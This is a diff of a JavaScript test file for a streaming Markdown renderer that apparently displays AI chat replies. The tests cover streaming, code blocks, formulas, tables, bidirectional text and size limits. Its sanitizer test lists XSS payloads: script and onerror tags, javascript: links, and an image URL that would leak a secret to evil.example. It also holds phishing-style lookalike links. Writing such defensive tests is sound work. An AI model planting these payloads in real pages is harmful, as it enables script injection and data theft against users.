@@ -1,12 +1,10 @@
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import { before, test } from "node:test";
-import { JSDOM } from "jsdom";
-import { cut, lex, openFence, toHtml } from "../src/blocks.js";
+import { hostile } from "./hostile.js";
+import { page } from "./page.js";
 
 const SAMPLE = readFileSync(new URL("./sample.txt", import.meta.url), "utf8");
-/** Where an address is defined after it is used, only the whole text can tell. */
-const WITHOUT_REFERENCES = SAMPLE.replace(/^\[\w+\]:.*$/gm, "");
 
 /** Every way this text can grow, a few characters at a time. */
 function* growths(text, step) {
@@ -14,74 +12,47 @@ function* growths(text, step) {
   yield text;
 }
 
-test("closed blocks are never taken back: block by block equals the whole, byte for byte", () => {
-  for (const step of [1, 7, 64]) {
-    let openAt = 0;
-    let html = "";
-    let last = { open: [] };
-    for (const text of growths(WITHOUT_REFERENCES, step)) {
-      last = cut(text.slice(openAt));
-      for (const token of last.closed) html += toHtml([token]);
-      openAt = text.length - last.rest.length;
-    }
-    assert.equal(html + toHtml(last.open), toHtml(lex(WITHOUT_REFERENCES)), `step ${step}`);
-  }
-});
-
-test("a long list closes its items, and is one list again at the end", () => {
-  const items = Array.from({ length: 40 }, (_, i) => `${i + 1}. item ${i + 1}\n`);
-  const text = items.join("");
-  const { closed, open, rest } = cut(text);
-  assert.equal(closed.map((token) => token.raw).join("") + rest, text);
-  assert.equal(closed[0].items.length, 38);
-  assert.match(toHtml(open), /^<ol start="39">/);
-  assert.equal(toHtml(lex(text)).match(/<ol/g).length, 1);
-});
-
-test("an open fence is known as such, a closed one not", () => {
-  assert.deepEqual(openFence("```python x\na = 1\n"), { language: "python", code: "a = 1\n" });
-  assert.deepEqual(openFence("~~~\n```\n"), { language: "", code: "```\n" });
-  assert.equal(openFence("```\na\n```\n"), null);
-  assert.equal(openFence("```"), null);
-  assert.equal(openFence("text"), null);
-});
-
-/** @type {typeof import("../src/markdown.js")} */
-let markdown;
-/** @type {typeof import("../src/streamed.js")} */
+const { frame, until, settled } = page();
+/** @type {typeof import("../src/markdown/streaming-markdown.js")} */
 let streamed;
+/** @type {typeof import("../src/lib/chunks.js")} */
+let chunks;
 
 before(async () => {
-  const { window } = new JSDOM("<!doctype html>", { pretendToBeVisual: true });
-  for (const name of [
-    "document",
-    "DOMParser",
-    "HTMLElement",
-    "Text",
-    "Node",
-    "requestAnimationFrame",
-  ]) {
-    globalThis[name] = window[name];
-  }
-  globalThis.window = window;
-  markdown = await import("../src/markdown.js");
-  streamed = await import("../src/streamed.js");
+  streamed = await import("../src/markdown/streaming-markdown.js");
+  chunks = await import("../src/lib/chunks.js");
 });
 
-const show = (text) => {
+function stream() {
   const host = document.createElement("div");
-  host.append(markdown.render(text));
-  return host;
-};
+  document.body.append(host);
+  return { host, view: new streamed.StreamingMarkdown(host) };
+}
 
-test("hostile text makes no element that loads, runs or submits", () => {
-  const hostile = [
+/** A whole text, when all of it is drawn. */
+async function show(text) {
+  const { host, view } = stream();
+  view.set(text, true);
+  await settled();
+  return host;
+}
+
+/** The words, without what the page adds. */
+function words(host) {
+  const copy = host.cloneNode(true);
+  for (const added of copy.querySelectorAll("button, .code-head, [hidden], .host")) added.remove();
+  for (const line of copy.querySelectorAll("br")) line.replaceWith("\n");
+  return copy.textContent;
+}
+
+test("hostile text makes no element that loads, runs or submits", async () => {
+  const text = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "![leak](https://evil.example/?q=secret)",
     "![ref][r]\n\n[r]: https://evil.example/x.png",
     "[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](data:text/html,x) [v](vbscript:x)",
-    "[relative](/accounts/logout/) [proto](//evil.example)",
+    "[relative](/accounts/logout/) [proto](//evil.example) <javascript:alert(1)>",
     "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
     "<svg><animate onbegin=alert(1)></svg><math><mi xlink:href='javascript:x'>",
     "<form action=/x><input name=y><button>z</button></form>",
@@ -91,9 +62,10 @@ test("hostile text makes no element that loads, runs or submits", () => {
     '<p style="position:fixed">x</p>',
     "a <b>bold</b> <!-- comment --> <![CDATA[x]]>",
     '[x](https://ok.example "t\' onmouseover=alert(1) \\"")',
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
   ].join("\n\n");
-  const host = show(hostile);
-  const bad = "script,img,svg,math,form,input,iframe,object,style,details,b,link,video,audio";
+  const host = await show(text);
+  const bad = "script,img,svg,math,form,input,iframe,object,style,details,b,video,audio";
   for (const button of host.querySelectorAll(".code button")) button.remove();
   assert.equal(host.querySelectorAll(bad).length, 0);
   for (const element of host.querySelectorAll("*")) {
@@ -101,7 +73,8 @@ test("hostile text makes no element that loads, runs or submits", () => {
       assert.ok(!name.startsWith("on") && name !== "style" && name !== "src", `${name}=${value}`);
     }
   }
-  for (const link of host.querySelectorAll("a[href]")) {
+  assert.ok(host.querySelector("a"));
+  for (const link of host.querySelectorAll("a")) {
     assert.match(link.getAttribute("href"), /^(https?:\/\/|mailto:)/i);
     assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
     assert.equal(link.getAttribute("target"), "_blank");
@@ -109,79 +82,258 @@ test("hostile text makes no element that loads, runs or submits", () => {
   assert.match(host.textContent, /<script>alert\(1\)<\/script>/);
 });
 
-test("an image is a link with its description", () => {
-  const link = show("![A map](https://example.org/map.png)").querySelector("a");
+test("an image is a link with its description", async () => {
+  const link = (await show("![A map](https://example.org/map.png)")).querySelector("a");
   assert.equal(link.textContent, "A map");
   assert.equal(link.getAttribute("href"), "https://example.org/map.png");
 });
 
-test("code has its language, a Copy button and exactly its text", () => {
-  const host = show("```js\nif (a < b && c) {}\n\n  </code>\n```");
+test("code has its language, a Copy button and exactly its text", async () => {
+  const host = await show("```js\nif (a < b && c) {}\n\n  </code>\n```");
   assert.equal(host.querySelector(".code-language").textContent, "js");
   assert.equal(host.querySelector("pre > code").textContent, "if (a < b && c) {}\n\n  </code>\n");
   assert.ok(host.querySelector(".code button"));
 });
 
-test("prices are no formulas, formulas keep their source until they are typeset", () => {
-  assert.equal(show("It costs $5 to $10, or US$7.").querySelector(".math-source"), null);
-  assert.equal(show("So $a < b$ holds.").querySelector(".math-source").textContent, "a < b");
-  assert.equal(show("$$\nx^2\n$$").querySelector("div.math-source").textContent, "x^2");
-  assert.equal(show("`$a$`").querySelector(".math-source"), null);
-});
-
-const frame = () => new Promise((resolve) => requestAnimationFrame(() => resolve()));
-
-/** Frames are left out where the one before took long: waits until the DOM has come to this. */
-async function until(isSo) {
-  for (let left = 500; left > 0; left--) {
-    if (isSo()) return;
-    await frame();
-  }
-  assert.fail("the DOM did not come to this");
+for (const [name, text] of [
+  ["lines like definitions", "Output:\n\n[OK]: loaded\n[FAIL]: timeout\n\nThat is all."],
+  [
+    "definitions that nothing uses",
+    "a\n\n[x]: https://example.org/x\n[y]: https://example.org/y 'z'",
+  ],
+  ["tags on lines", "a\n<div>\nb\n</div>\n\n<details>\n\n<summary>c</summary>"],
+  ["types in angle brackets", "Map<string, List<T>> and <T> and a<b and </x> and <?php ?>"],
+  ["comments", "a <!-- b --> c\n\n<!-- d\ne -->\n\nf"],
+  ["comments with a blank line", "<!-- d\n\ne -->\n\nf"],
+  ["scripts and styles", "<script>\nx\n\ny\n</script>\n\n<style>\np {}\n</style>"],
+  ["unknown entities", "&foo; &notanentity; AT&T a&b; &"],
+  ["formulas without an end", "\\[ a and \\( b and $$ c and $d"],
+  ["a formula with nothing in it", "\\[\\] and $$$$"],
+  ["links to nowhere", "[a] [b][c] [d]( e ![f"],
+  ["one-letter tildes", "2~3 and ~x~ and 5~"],
+  ["shell", "echo $HOME and $PATH, {X}, $1 and $$"],
+]) {
+  test(`nothing a model wrote vanishes: ${name}`, async () => {
+    const flat = (one) => one.replace(/\s+/g, "");
+    assert.equal(flat(words(await show(text))), flat(text));
+  });
 }
 
-const stream = () => {
-  const host = document.createElement("div");
-  document.body.append(host);
-  return { host, view: new streamed.StreamedMarkdown(host) };
-};
+test("a definition that is used makes links, and its line goes", async () => {
+  const host = await show("See [the guide][g], [g] and [G][].\n\n[g]: https://example.org/g 'Tip'");
+  const links = [...host.querySelectorAll("p:not([hidden]) a")];
+  assert.deepEqual(
+    links.map((a) => a.textContent),
+    ["the guide", "g", "G"],
+  );
+  for (const link of links) assert.equal(link.href, "https://example.org/g");
+  assert.equal(links[0].title, "Tip");
+  assert.equal(words(host), "See the guide, g and G.");
+});
+
+test("a definition in code defines nothing outside", async () => {
+  const host = await show("See [1].\n\n```\n[1]: https://example.org/g\n```");
+  assert.equal(host.querySelector("a"), null);
+});
+
+test("cells after a bar in code stay, and so do cells beyond the last column", async () => {
+  const table = "| a | b |\n|---|---|\n| `x|y` | 2 |\n| ``p`|q`` | \\| |\n| 1 | 2 | 3 | 4 |\n";
+  const host = await show(table);
+  const rows = [...host.querySelectorAll("tbody tr")].map((row) =>
+    [...row.cells].map((cell) => cell.textContent),
+  );
+  assert.deepEqual(rows, [
+    ["x|y", "2"],
+    ["p`|q", "|"],
+    ["1", "2 | 3 | 4"],
+  ]);
+});
+
+test("fences within a block of Markdown belong to it", async () => {
+  for (const [fence, language] of [
+    ["```", "markdown"],
+    ["~~~", "md"],
+    ["````", "Markdown"],
+  ]) {
+    const inner = "# Tool\n\n```sh\nmake all\n```\n\nMore text.\n";
+    const host = await show(`Save:\n\n${fence}${language}\n${inner}${fence}\n\nBye.`);
+    assert.equal(host.querySelectorAll("pre").length, 1, language);
+    assert.equal(host.querySelector("pre > code").textContent, inner);
+    assert.equal(host.lastElementChild.textContent, "Bye.");
+  }
+  const host = await show("- Save:\n  ```md\n  ```sh\n  x\n  ```\n  y\n  ```\n- Bye");
+  assert.equal(host.querySelector("pre > code").textContent, "```sh\nx\n```\ny\n");
+  const other = await show("```js\n```sh\n```\n\nBye.");
+  assert.equal(other.querySelector("pre > code").textContent, "```sh\n");
+});
+
+test("a fence without a language opens a block within Markdown where it reads as one", async () => {
+  const inside = [
+    "# T\n\n```\nmake all\n```\n\nMore.\n",
+    "Run:\n```\nmake all\n```\nDone.\n",
+    "# T\n\n````\nx\n````\n\n```\ny\n```\n",
+    "Run:\n\n```\nx\n```\n\n```sh\ny\n```\nDone.\n",
+  ];
+  for (const inner of inside) {
+    const host = await show(`Save:\n\n\`\`\`markdown\n${inner}\`\`\`\n\nBye.`);
+    assert.equal(host.querySelector("pre > code").textContent, inner);
+    assert.equal(host.querySelectorAll("pre").length, 1);
+  }
+  // The end of the block, and what comes after it.
+  for (const [text, blocks] of [
+    ["```md\nA\n```\nText\n\n```\nb\n```\n\nBye.", 2],
+    ["```md\nA\n```\n\nText:\n\n```js\nb\n```\n\nBye.", 2],
+    ["```md\nA\n\n```\nText\n\n```js\nb\n```\n\nBye.", 2],
+    [`\`\`\`md\nA\n\n\`\`\`\n${"Text.\n\n".repeat(400)}Bye.`, 1],
+  ]) {
+    const host = await show(text);
+    assert.equal(host.querySelectorAll("pre").length, blocks, text.slice(0, 60));
+    assert.equal(host.querySelector("pre > code").textContent.trim(), "A");
+    assert.equal(host.lastElementChild.textContent, "Bye.");
+  }
+});
+
+test("a link without words shows where it leads, a comment keeps its lines", async () => {
+  const host = await show("See [](https://example.org/a).\n\n<!-- a *b*\nc --> d\n");
+  assert.equal(host.querySelector("a").textContent, "https://example.org/a");
+  assert.equal(words(host), "See https://example.org/a.<!-- a *b*\nc --> d");
+});
+
+test("formulas are typeset where they are on lines, with blank ones among them too", async () => {
+  const host = await show(
+    "\\[\nu = v\n\n+ w\n\\]\n\nThen:\n$$\nx\n$$\n\n- a\n  \\[\n  y\n\n  z\n  \\]",
+  );
+  await until(() => host.querySelectorAll("math[display=block]").length === 3);
+  const sources = [...host.querySelectorAll("annotation")].map((one) => one.textContent);
+  assert.deepEqual(sources, ["u = v\n\n+ w", "x", "y\n\nz"]);
+});
+
+test("each block has the direction of its words, code is always left to right", async () => {
+  const host = await show(
+    "טקסט ראשון בעברית.\n\nAn English line (with brackets).\n\n`./go.sh -x` פקודה\n\n```js\nlet n = 5;\n```\n\n- עברית\n- English\n\n> ציטוט\n\n# כותרת\n\n| שם | name |\n|---|---|\n| א | b |",
+  );
+  const directions = (selector) => [...host.querySelectorAll(selector)].map((one) => one.dir);
+  assert.deepEqual(directions(":scope > p"), ["rtl", "ltr", "rtl"]);
+  assert.deepEqual(directions("code, .code").filter(Boolean), ["ltr", "ltr"]);
+  assert.deepEqual(directions("ul, li"), ["rtl", "rtl", "ltr"]);
+  assert.deepEqual(directions("blockquote, h2, table"), ["rtl", "rtl", "rtl"]);
+  assert.deepEqual(directions("th, td"), ["rtl", "ltr", "rtl", "ltr"]);
+});
+
+test("characters that turn the direction are marked, in words, code, links and cells", async () => {
+  const code = "```py\nx = '\u202e'\n```";
+  const text = `a\u202eb \`c\u2066\` [d\u202a](https://e.f)\n\n${code}\n\n| g\u2069 |\n|---|\n| \u{e0041} |`;
+  const host = await show(`${text}\n\n&#x202e;\n\n<\u202e>`);
+  await until(() => host.querySelectorAll(".unseen").length === 8);
+  assert.equal(/[\u202a-\u202e\u2066-\u2069\u{e0041}]/u.test(host.textContent), false);
+  const { textOf } = await import("../src/lib/visible-text.js");
+  assert.equal(textOf(host.querySelector("pre > code")), "x = '\u202e'\n");
+});
+
+test("the real host stands beside a label that looks like another address", async () => {
+  const host = await show(
+    "[bank.example](https://evil.example/a) [https://bank.example/x](https://evil.example)" +
+      " https://bank.example@evil.example/ [a@bank.example](mailto:b@evil.example)" +
+      " [bank。example](https://evil.example) [b\u200bank.example](https://evil.example)",
+  );
+  const hosts = [...host.querySelectorAll(".host")].map((one) => one.textContent);
+  assert.deepEqual(hosts, Array(6).fill("(evil.example)"));
+  const own = await show(
+    "https://a.example/b.html [a.example](https://www.a.example/) [x](https://y.z)",
+  );
+  assert.equal(own.querySelector(".host"), null);
+});
 
 /** The structure without what comes later by itself: formulas and colours. */
 function structure(host) {
   const copy = host.cloneNode(true);
-  for (const place of copy.querySelectorAll("span, div")) {
-    if (place.matches(".math-source") || place.querySelector(":scope > .math")) place.remove();
+  for (const place of copy.querySelectorAll(".math-source, .formula")) place.remove();
+  for (const code of copy.querySelectorAll("pre > code")) {
+    code.replaceChildren(code.textContent);
+    delete code.dataset.coloured;
   }
-  for (const code of copy.querySelectorAll("pre > code")) code.replaceChildren(code.textContent);
   return copy.innerHTML;
 }
 
 test("a streamed text ends as the same DOM as a whole one, late references included", async () => {
-  const { host, view } = stream();
-  for (const text of growths(SAMPLE, 97)) {
-    view.set(text, false);
-    await frame();
+  const whole = structure(await show(SAMPLE));
+  for (const step of [29, 97]) {
+    const { host, view } = stream();
+    for (const text of growths(SAMPLE, step)) {
+      view.set(text, false);
+      await frame();
+    }
+    view.set(SAMPLE, true);
+    await until(() => host.querySelector('a[title="One"]'));
+    await settled();
+    assert.ok(structure(host) === whole, `the two differ at step ${step}`);
   }
-  view.set(SAMPLE, true);
-  await until(() => host.querySelector('a[title="One"]'));
-  assert.ok(structure(host) === structure(show(SAMPLE)), "the two differ");
 });
 
-test("a text without references keeps the nodes it had", async () => {
+test("the end is drawn at once, whatever was waited for", async () => {
   const { host, view } = stream();
-  view.set("# One\n\nfirst\n\nsecond\n\nthird", false);
-  await until(() => host.textContent.includes("third"));
-  const heading = host.firstElementChild;
-  view.set("# One\n\nfirst\n\nsecond\n\nthird and last", true);
-  await until(() => host.textContent.includes("last"));
-  assert.equal(host.firstElementChild, heading);
-  assert.equal(structure(host), structure(show("# One\n\nfirst\n\nsecond\n\nthird and last")));
+  view.set("One", false);
+  await settled();
+  view.set("One two `three`", false);
+  view.set("One two `three` four.", true);
+  assert.equal(host.textContent, "One two three four.");
+});
+
+test("the last words of a long text are drawn at once on a busy page", async () => {
+  const long = `${"A paragraph with *some* words.\n\n".repeat(300)}The last`;
+  const { host, view } = stream();
+  view.set(long, false);
+  await until(() => host.textContent.endsWith("The last"));
+  // Another text has used up the time of this turn.
+  const other = stream();
+  other.view.set("One", true);
+  const start = performance.now();
+  while (performance.now() - start < 30);
+  view.set(`${long} words are here.\n\n- and\n- so is the end`, true);
+  assert.match(words(host), /The last words are here\.\s*and\s*so is the end$/);
+  await settled();
+  assert.equal(
+    host.innerHTML,
+    (await show(`${long} words are here.\n\n- and\n- so is the end`)).innerHTML,
+  );
+});
+
+test("nodes stay while a text grows around them, and with them a selection", async () => {
+  const { host, view } = stream();
+  const text =
+    "# One\n\nfirst *word* and\n\n- a\n- b\n\n```js\nlet a;\n```\n\nThe last `x` one [l](https://a.b)";
+  view.set(text, false);
+  await settled();
+  const kept = [...host.querySelectorAll("h2, p, em, li, pre, code, a")];
+  const texts = kept.map((one) => one.firstChild);
+  let grown = text;
+  for (const more of [" **here**", ".\n\n| a |\n|---|\n| b |\n\n$x$", " end"]) {
+    grown += more;
+    view.set(grown, more === " end");
+    await settled();
+  }
+  assert.match(host.textContent, /one l here\./);
+  for (const [i, node] of kept.entries()) {
+    assert.ok(node.isConnected, node.nodeName);
+    if (!node.closest("pre")) assert.equal(node.firstChild, texts[i], node.nodeName);
+  }
+});
+
+test("a definition at the end changes only what uses it", async () => {
+  const { host, view } = stream();
+  view.set("A [link][a].\n\nOther *words*.", false);
+  await settled();
+  const em = host.querySelector("em");
+  view.set("A [link][a].\n\nOther *words*.\n\n[a]: https://a.b", true);
+  await settled();
+  assert.equal(host.querySelector("em"), em);
+  assert.equal(host.querySelector("a").href, "https://a.b/");
 });
 
 test("a text that goes on after its end goes on in its last block", async () => {
   const { host, view } = stream();
   view.set("First.\n\nIt was", true);
-  await until(() => host.querySelectorAll("p").length === 2);
+  await settled();
   view.set("First.\n\nIt was cut *off", false);
   await until(() => host.textContent.includes("off"));
   assert.equal(host.lastElementChild.textContent, "It was cut *off");
@@ -202,24 +354,145 @@ test("an open code block grows in place, and closes", async () => {
   const code = host.querySelector("pre > code");
   view.set("Look:\n\n```python\na = 1\nb = '<i>'\n", false);
   await until(() => code.textContent === "a = 1\nb = '<i>'\n");
-  assert.equal(host.querySelector("pre > code"), code);
   view.set("Look:\n\n```python\na = 1\nb = '<i>'\n```\n\nDone.", false);
   await until(() => host.lastElementChild.textContent === "Done.");
   view.set("Look:\n\n```python\na = 1\nb = '<i>'\n```\n\nDone.", true);
   await until(() => !host.querySelector("[data-open]"));
   assert.equal(host.querySelectorAll("pre").length, 1);
-  assert.equal(host.querySelector("pre > code").textContent, "a = 1\nb = '<i>'\n");
+  assert.equal(host.querySelector("pre > code"), code);
+  assert.equal(code.textContent, "a = 1\nb = '<i>'\n");
 });
 
-test("what Markdown makes of a text may fail, the text is shown all the same", () => {
-  const error = console.error;
-  console.error = () => {};
-  try {
-    const host = document.createElement("div");
-    host.append(markdown.plain("<b>text</b>", new Error("broken")));
-    assert.equal(host.textContent, "<b>text</b>");
-    assert.equal(host.querySelector("b"), null);
-  } finally {
-    console.error = error;
+for (const rate of [30, 60, 100]) {
+  test(`all code has its colours in a reply that came at ${rate} tokens a second`, async () => {
+    const block = (i) =>
+      `Step ${i}, with some words:\n\n\`\`\`js\nconst a${i} = "${i}";\nreturn a${i};\n\`\`\`\n\n`;
+    const text = Array.from({ length: 8 }, (_, i) => block(i)).join("");
+    const tokens = text.match(/\s*\S{1,5}/g);
+    const { host, view } = stream();
+    // A token of the wire is some five characters; frames come every 40 ms.
+    const perFrame = Math.max(1, Math.round((rate * 40) / 1000));
+    for (let i = perFrame; i < tokens.length; i += perFrame) {
+      view.set(tokens.slice(0, i).join(""), false);
+      await frame();
+    }
+    view.set(tokens.join(""), true);
+    const coloured = () => host.querySelectorAll("code[data-coloured] .hljs-keyword").length;
+    await until(() => coloured() === 16);
+    assert.equal(host.querySelectorAll("pre > code").length, 8);
+  });
+}
+
+test("code gets its colours when its block closes, not only at the end", async () => {
+  const { host, view } = stream();
+  view.set("```js\nlet a;\n", false);
+  await settled();
+  view.set("```js\nlet a;\n```\n\nAnd so on, one word\n\nafter the other", false);
+  await until(() => host.querySelector(".hljs-keyword"));
+});
+
+test("no hostile text makes more nodes than the page bears, and all of it is there", async () => {
+  for (const [name, text] of hostile(6000)) {
+    const host = await show(text);
+    const count = host.querySelectorAll("*").length;
+    assert.ok(count < 12_000, `${name}: ${count} nodes`);
+    const letters = (one) => one.replace(/[^a-z]/g, "").length;
+    if (!/entit|code|link|image|definition|tags with|fences|formulas$|hidden|^tags$/.test(name)) {
+      assert.ok(letters(words(host)) >= letters(text), `${name}: text is missing`);
+    }
   }
+});
+
+test("beyond the nodes and blocks that a page bears a text is shown as it was written", async () => {
+  const kinds = { headings: ["# a\n", "h2"], items: ["- a\n", "li"], emphasis: ["*a*\n\n", "em"] };
+  for (const [name, [part, drawn]] of Object.entries(kinds)) {
+    const host = await show(part.repeat(30_000));
+    const count = host.querySelectorAll("*").length;
+    assert.ok(count > 1000 && count < 13_000, `${name}: ${count} nodes`);
+    const blocks = host.querySelectorAll(":scope > :not(.plain)").length;
+    assert.ok(blocks <= 1000, `${name}: ${blocks} blocks`);
+    assert.ok(host.querySelectorAll(drawn).length >= 500, name);
+    assert.ok(host.querySelector(".plain").textContent.startsWith(part.trim()), name);
+    assert.equal(host.textContent.match(/a/g).length, 30_000, name);
+  }
+});
+
+test("no plain text is laid out as one: its chunks have few lines and characters", async () => {
+  for (const part of ["$$\n", "a", "\n", "a b ", "\u{1f44d}"]) {
+    const text = `${part.repeat(20_000)}a`;
+    const host = document.createElement("div");
+    chunks.fill(host, text);
+    assert.equal(host.textContent, text);
+    const texts = [...host.childNodes].map((node) =>
+      node.nodeType === 3 ? node.data : node.textContent,
+    );
+    for (const one of texts) {
+      assert.ok(one.length <= 4096 && one.split("\n").length <= 501, JSON.stringify(part));
+      assert.ok(one.isWellFormed());
+    }
+  }
+});
+
+test("all rows of a long table are rows, in parts of few cells that each have its head", async () => {
+  const rows = Array.from({ length: 1000 }, (_, i) => `| ${i} | *b* | \`c\` |\n`);
+  const text = `| x | y | z |\n|---|---|---|\n${rows.join("")}`;
+  const host = await show(text);
+  const cells = [...host.querySelectorAll("tbody td:first-child")];
+  assert.deepEqual(
+    cells.map((cell) => cell.textContent),
+    rows.map((_, i) => String(i)),
+  );
+  for (const table of host.querySelectorAll("table")) {
+    assert.equal(table.querySelector("thead").textContent, "xyz");
+    assert.ok(table.querySelectorAll("td").length <= 410);
+  }
+  const { host: growing, view } = stream();
+  for (let end = 700; end < text.length; end += 700) {
+    view.set(text.slice(0, end), false);
+    await settled();
+  }
+  view.set(text, true);
+  await settled();
+  assert.equal(growing.innerHTML, host.innerHTML);
+});
+
+test("a text that nobody reads yet comes bit by bit, and no more once it is read", async () => {
+  const text = "Some words here.\n".repeat(20_000);
+  const host = document.createElement("div");
+  let isDue = true;
+  chunks.fillInTime(host, text, () => isDue);
+  assert.ok(host.textContent.length <= 32_768);
+  await until(() => host.textContent === text);
+  host.replaceChildren();
+  chunks.fillInTime(host, text, () => isDue);
+  isDue = false;
+  const { length } = host.textContent;
+  await settled();
+  assert.equal(host.textContent.length, length);
+});
+
+test("a formula of very many cells is its source", async () => {
+  const matrix = (cells) => `$$\n\\begin{matrix}${"a&".repeat(cells)}a\\end{matrix}\n$$\n`;
+  const host = await show(matrix(20) + matrix(900));
+  await until(() => host.querySelector("math"));
+  await settled();
+  assert.equal(host.querySelectorAll("math").length, 1);
+  assert.equal(host.querySelectorAll(".math-source").length, 1);
+});
+
+test("a long text enters the page in slices", async () => {
+  const { host, view } = stream();
+  view.set("Some *words* here.\n\n".repeat(6000), true);
+  const first = host.childNodes.length;
+  assert.ok(first > 0 && first < 1000, `${first} blocks at once`);
+  assert.equal(host.querySelector("p").textContent, "Some words here.");
+  await settled();
+  assert.equal(host.textContent.match(/words/g).length, 6000);
+  assert.ok(host.classList.contains("long"));
+});
+
+test("what Markdown makes of a text may fail, the text is shown all the same", async () => {
+  const { asWritten } = await import("../src/markdown/markdown.js");
+  const [node] = asWritten({ kind: "text", raw: "<b>text</b>\n" }).nodes;
+  assert.equal(node.textContent, "<b>text</b>");
 });
